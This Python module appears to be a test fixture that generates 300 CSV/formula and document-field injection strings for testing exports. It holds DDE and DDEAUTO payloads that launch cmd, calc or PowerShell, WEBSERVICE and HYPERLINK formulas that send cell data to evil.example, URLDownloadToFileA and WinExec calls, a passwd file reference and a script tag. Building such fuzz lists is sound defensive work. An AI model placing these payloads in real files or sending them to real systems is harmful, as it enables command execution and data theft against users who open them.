"""Three hundred texts that would run as a formula, a link or a field in a careless export."""

from __future__ import annotations

_LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "　=", "＝", "＋", "－", "＠", "'=", '"=')
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    "cmd|'/c powershell -nop'!A1",
    'HYPERLINK("http://evil.example/?x="&A1,"点我")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML("http://evil.example","//a")',
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    'DDE("cmd";"/C calc";"x")',
    "'file:///etc/passwd'#$passwd.A1",
    "[evil.xlsx]Sheet1!A1",
    'INDIRECT("A1")',
    "SUM(1+9)*cmd|' /C calc'!A0",
    'CALL("Kernel32","WinExec","JFJ","calc",0)',
    'REGISTER("urlmon","URLDownloadToFileA")',
    'EXEC("calc.exe")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "{1,2,3}",
    "A1:A9",
    "2026-01-01",
)
_FIELDS = (
    "{=1+1}",
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" }',
    '{ INCLUDETEXT "http://evil.example/x" }',
    '{ HYPERLINK "http://evil.example" }',
    "http://evil.example/",
    "https://evil.example/%0A",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:evil.xlsx",
    "file:///c:/windows/system32/calc.exe",
    "\\\\evil.example\\share\\x",
    "<script>alert(1)</script>",
    "<a href='http://evil.example'>x</a>",
    "<w:fldSimple w:instr='DDEAUTO'/>",
    "]]><x/>",
    "&lt;&amp;&quot;",
    "%COMSPEC%",
)


def payloads() -> list[str]:
    """Return exactly three hundred different texts."""
    made = [lead + body for body in _BODIES for lead in _LEADS] + list(_FIELDS)
    return list(dict.fromkeys(made))[:300]
